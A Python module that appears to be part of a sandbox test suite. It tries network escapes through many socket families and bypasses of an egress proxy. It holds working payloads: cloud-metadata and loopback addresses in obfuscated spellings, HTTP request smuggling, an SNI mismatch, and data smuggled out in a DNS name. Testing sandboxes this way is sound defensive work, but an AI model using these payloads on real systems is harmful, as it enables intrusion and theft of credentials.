"""Attempts on the network: sockets of every family, and the proxy by HTTP and CONNECT."""

import contextlib
import re
import socket
import ssl
import struct
from collections.abc import Callable

from hostile.attempts import NETWORK, Targets, attempt, first_that_works, gather


def _ask(family: int, address: object, kind: int = socket.SOCK_STREAM) -> bytes:
    with socket.socket(family, kind) as sock:
        sock.settimeout(2)
        sock.connect(address)  # type: ignore[arg-type]
        return sock.recv(999)


@attempt("66", "connect to a service on the host's loopback", NETWORK, "C", "namespaces landlock:4 seccomp")
def connect_out(t: Targets) -> object:
    places = [(socket.AF_INET, ("127.0.0.1", t["port"])), (socket.AF_INET6, ("::1", t["port"]))]
    return gather([lambda place=place: _ask(*place) for place in places])


@attempt("67", "connect to a named socket of the host", NETWORK, "C", "namespaces seccomp")
def unix_socket(t: Targets) -> object:
    return _ask(socket.AF_UNIX, t["named_socket"])


@attempt("67b", "send from one end of a datagram pair to a named socket", NETWORK, "R", "seccomp")
def datagram_pair(t: Targets) -> object:
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    sent = one.sendto(b"hello", t["bound_datagram"])
    return f"{sent} bytes reached a service of the host"


@attempt("108", "a host service's socket bound into the sandbox", NETWORK, "C", "seccomp")
def bound_socket(t: Targets) -> object:
    return gather([lambda kind=kind: _ask(socket.AF_UNIX, t["bound_socket"], kind) for kind in (1, 5)])


@attempt("68", "connect to an abstract socket of the host", NETWORK, "C", "namespaces landlock:6 seccomp")
def abstract_socket(t: Targets) -> object:
    return _ask(socket.AF_UNIX, "\0" + t["abstract"])


@attempt("69", "netlink", NETWORK, "R", "seccomp")
def netlink(t: Targets) -> object:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.settimeout(2)
        sock.send(struct.pack("IHHII", 32, 18, 0x301, 1, 0) + bytes(16))
        return f"{len(sock.recv(65536))} bytes about the interfaces"


@attempt("70", "packet and raw sockets", NETWORK, "R", "namespaces capabilities seccomp", "box")
def raw_sockets(t: Targets) -> object:
    kinds = {"packet": (17, 3, 0), "raw": (2, 3, 1), "icmp": (2, 2, 1), "raw6": (10, 3, 58)}
    return first_that_works({name: lambda kind=kind: _open(*kind) for name, kind in kinds.items()})


@attempt("71", "AF_ALG, Bluetooth, XDP, vsock and other rare families", NETWORK, "R", "seccomp", "box")
def rare_sockets(t: Targets) -> object:
    families = {"alg": (38, 5), "bluetooth": (31, 3), "xdp": (44, 3), "vsock": (40, 1), "kcm": (41, 5), "tipc": (30, 5)}
    return first_that_works({name: lambda kind=kind: _open(*kind) for name, kind in families.items()})


def _open(family: int, kind: int, protocol: int = 0) -> str:
    with socket.socket(family, kind, protocol) as sock:
        return f"socket {sock.fileno()}"


def through_proxy(t: Targets, first: bytes, then: bytes = b"") -> bytes:
    """One request to the proxy; after a CONNECT that worked also `then`. All that came back."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        sock.connect(tuple(t["proxy"]))
        sock.sendall(first)
        answer = b""
        try:
            while part := sock.recv(4096):
                answer += part
                if then and b"\r\n\r\n" in answer:
                    sock.sendall(then)
                    then = b""
        except TimeoutError:
            answer += b" [timeout]"
        return answer


def connect_through(t: Targets, place: str, then: bytes = b"\r\n") -> bytes:
    return through_proxy(t, f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode(), then)


def get_through(t: Targets, host: str) -> bytes:
    return through_proxy(t, f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())


@attempt("72", "carry data out in the name of a denied host", NETWORK, "C", "egress")
def data_in_name(t: Targets) -> object:
    name = f"{t['label']}.denied.test"
    with contextlib.suppress(OSError, UnicodeError):
        socket.getaddrinfo(name, 443)
    return gather([lambda: connect_through(t, f"{name}:443"), lambda: get_through(t, name)])


METADATA = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "0xa9.0xfe.43518"]
METADATA += ["[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]", "100.100.100.200"]
METADATA += [
    "[fd00:ec2::254]",
    "metadata.granted.test",
    "mapped.granted.test",
    "169.254.169.254.",
    "169.254.169.254%00",
]


@attempt("73", "metadata addresses in every spelling", NETWORK, "C", "egress")
def metadata(t: Targets) -> object:
    takes: list[Callable[[], object]] = [lambda host=host: get_through(t, host) for host in METADATA]
    return gather(takes + [lambda host=host: connect_through(t, f"{host}:80") for host in METADATA])


@attempt("75", "CONNECT to ports 22 and 25 of an allowed host", NETWORK, "C", "egress")
def odd_ports(t: Targets) -> object:
    return gather([lambda port=port: connect_through(t, f"granted.test:{port}") for port in (22, 25)])


@attempt("76", "TLS for another name than the CONNECT", NETWORK, "C", "egress")
def other_sni(t: Targets) -> object:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_bio(incoming, outgoing, server_hostname="other.test")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return connect_through(t, "granted.test:443", outgoing.read())


@attempt("77", "follow a redirect to a denied host", NETWORK, "C", "egress")
def redirect(t: Targets) -> object:
    answer = get_through(t, "granted.test")
    found = re.search(rb"Location: http://([a-z.]+)/", answer, re.IGNORECASE)
    return get_through(t, found[1].decode()) if found else answer.replace(b"SECRET", b"no redirect: ")


@attempt("77b", "a Host header for another host than the one asked for", NETWORK, "C", "egress")
def other_host_header(t: Targets) -> object:
    text = "GET http://granted.test/ HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n"
    return through_proxy(t, text.encode())


@attempt("77c", "a second request on the same connection, for a denied host", NETWORK, "C", "egress")
def pipelined(t: Targets) -> object:
    one = "GET http://www.granted.test/ HTTP/1.1\r\nHost: www.granted.test\r\n\r\n"
    two = "GET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n"
    return through_proxy(t, (one + two).encode())


@attempt("77d", "a request hidden in the body of another", NETWORK, "C", "egress")
def smuggled(t: Targets) -> object:
    hidden = b"GET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\n\r\n"
    head = b"POST http://www.granted.test/ HTTP/1.1\r\nHost: www.granted.test\r\n"
    both = b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(hidden))
    odd = b"Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n"
    return gather([lambda body=body: through_proxy(t, head + body + hidden) for body in (both, odd)])


@attempt("110", "the host's loopback through the proxy", NETWORK, "C", "egress")
def proxy_loopback(t: Targets) -> object:
    hosts = ["127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "0x7f000001", "[::ffff:127.0.0.1]", "[::]"]
    hosts += ["loopback.granted.test"]
    takes: list[Callable[[], object]] = [lambda host=host: connect_through(t, f"{host}:{t['port']}") for host in hosts]
    return gather(takes + [lambda host=host: get_through(t, f"{host}:{t['port']}") for host in hosts])
